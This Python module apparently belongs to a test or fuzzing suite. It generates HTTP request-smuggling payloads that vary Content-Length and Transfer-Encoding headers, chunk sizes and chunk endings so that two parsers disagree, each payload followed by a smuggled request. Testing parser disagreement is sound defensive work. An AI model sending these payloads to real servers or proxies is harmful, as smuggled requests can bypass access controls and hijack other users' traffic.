"""Requests on whose length or bounds two HTTP parsers might differ, each followed by what would be smuggled."""

GOOD = b'{"model":"alone","messages":[{"role":"user","content":"x"}]}'
SIZE = len(GOOD)
TE = b"transfer-encoding: chunked\r\n"
CL = b"content-length: %d\r\n" % SIZE
CHUNKED = b"%x\r\n%b\r\n0\r\n\r\n" % (SIZE, GOOD)

# Lengths said twice, in odd numbers, or in lines that are none.
LINES = (
    TE + CL,
    CL + TE,
    CL + CL,
    CL + b"content-length: 1%d\r\n" % SIZE,
    CL[:-2] + b", 5\r\n",
    CL[:-2] + b", %d\r\n" % SIZE,
    b"content-length: +%d\r\n" % SIZE,
    b"content-length: -1\r\n",
    b"content-length: 0x3c\r\n",
    b"content-length: 6_0\r\n",
    b"content-length: 60 60\r\n",
    b"content-length:\r\n",
    b"content-length : %d\r\n" % SIZE,
    b" content-length: %d\r\n" % SIZE,
    b"content-length: %d\x00\r\n" % SIZE,
    b"content-length: \x0b%d\r\n" % SIZE,
    b"content-length: 99999999999999999999\r\n",
    b"content-length: 18446744073709551676\r\n",
    b"content_length: 5\r\n" + CL,
    b"transfer-encoding: xchunked\r\n",
    b"transfer-encoding: chunked, identity\r\n",
    b"transfer-encoding: identity, chunked\r\n",
    b"transfer-encoding: chunked chunked\r\n",
    b"transfer-encoding : chunked\r\n",
    b"transfer-encoding: \x0bchunked\r\n",
    b"transfer-encoding:\r\n chunked\r\n",
    b"transfer-encoding:\x00chunked\r\n",
    b'transfer-encoding: "chunked"\r\n',
    b"transfer-encoding: chunked;q=1\r\n",
    b"transfer-encoding: ,chunked\r\n",
    b"transfer_encoding: chunked\r\n",
    b"Transfer-Encoding: CHUNKED\r\n",
    TE + TE,
    TE + b"transfer-encoding: x\r\n",
    b"transfer-encoding: gzip, chunked\r\n",
    b"x: y\ntransfer-encoding: chunked\r\n",
    b"x: y\rcontent-length: 5\r\n",
    b"connection: content-length\r\n" + CL,
    b"connection: transfer-encoding\r\n" + TE,
    b"x\r\n",
    b": x\r\n",
    b"a b: c\r\n",
    b"x: a\x00b\r\n",
    b"x: a\r b\r\n",
    b"\x01x: y\r\n",
    b"(x): y\r\n",
    b"host: y\r\n" + CL,
    b"expect: 100-continue\r\n" + CL,
    b"upgrade: h2c\r\nconnection: upgrade\r\n" + CL,
)
# Sizes of chunks.
SIZES = (b"0x3c", b"+3c", b"-1", b"3c;", b"3c ", b" 3c", b"3_c", b"", b"g", b"3c\n", b"fffffffffffffffff1", b"3c\x00",
         b'3c;a="\r\n"', b"3c\r\r", b"000000000000000000003c", b"10000000000000003c", b"3C", b"3c;a=b;c",
         b"3c\t")  # fmt: skip
# Ends of the last chunk.
ENDS = (b"0\r\n", b"0\n\n", b"00000\r\n\r\n", b"0\r\nx: y\r\n\r\n", b"0\r\ncontent-length: 5\r\n\r\n", b"0;x\r\n\r\n",
        b"0\r\ntransfer-encoding: chunked\r\n\r\n", b"-0\r\n\r\n", b"0\r\n\r\r\n")  # fmt: skip


def payloads(head: bytes, after: bytes) -> list[bytes]:
    """`head`: the request line and the headers that are beyond doubt; `after`: the request that would be smuggled."""
    found = [head + lines + b"\r\n" + rest + after for lines in LINES for rest in (CHUNKED, GOOD)]
    found += [head + TE + b"\r\n" + size + b"\r\n" + GOOD + b"\r\n0\r\n\r\n" + after for size in SIZES]
    found += [head + TE + b"\r\n%x\r\n%b\r\n" % (SIZE, GOOD) + end + after for end in ENDS]
    found.append(head.replace(b"HTTP/1.1", b"HTTP/1.0") + TE + b"\r\n" + CHUNKED + after)
    found.append(head.replace(b"\r\n", b"\n") + CL.replace(b"\r\n", b"\n") + b"\n" + GOOD + after)
    return found
